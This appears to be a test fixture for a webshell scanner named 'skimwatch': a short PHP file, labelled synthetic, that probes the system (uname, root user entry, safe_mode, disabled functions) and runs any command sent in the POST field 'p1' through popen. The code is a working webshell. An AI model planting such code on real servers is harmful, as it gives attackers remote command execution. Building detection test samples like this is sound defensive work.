<?php
// Synthetic unnamed webshell for skimwatch tests: no kit name, but the same
// reconnaissance calls and a command runner.
echo php_uname();
echo ini_get('safe_mode') ? 'on' : 'off';
echo implode(',', posix_getpwuid(0));
echo ini_get('disable_functions');
if (isset($_POST['p1'])) { $h = popen($_POST['p1'], 'r'); while (!feof($h)) echo fgets($h); pclose($h); }
